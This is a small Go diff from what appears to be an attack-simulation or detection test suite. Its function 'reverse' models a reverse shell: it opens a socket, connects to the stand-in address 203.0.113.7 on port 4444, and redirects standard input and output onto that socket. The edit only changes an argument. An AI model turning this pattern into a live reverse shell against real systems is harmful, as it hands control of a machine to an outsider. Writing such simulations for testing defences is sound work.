@@ -83,7 +83,7 @@ var attacks = []attack{
 func reverse(s *stream, u *turn) {
 	var fd int64
 	u.add(s.socket(u.who, &fd, inet, streaming, "")...)
-	u.add(s.connect(u.who, &fd, [4]byte{203, 0, 113, 7}, 4444, "")...)
+	u.add(s.connect(u.who, &fd, [4]byte{203, 0, 113, 7}, 4444)...)
 	u.add(s.dup(u.who, &fd, 0, ruleRedirect), s.dup(u.who, &fd, 1, ruleRedirect))
 }
 
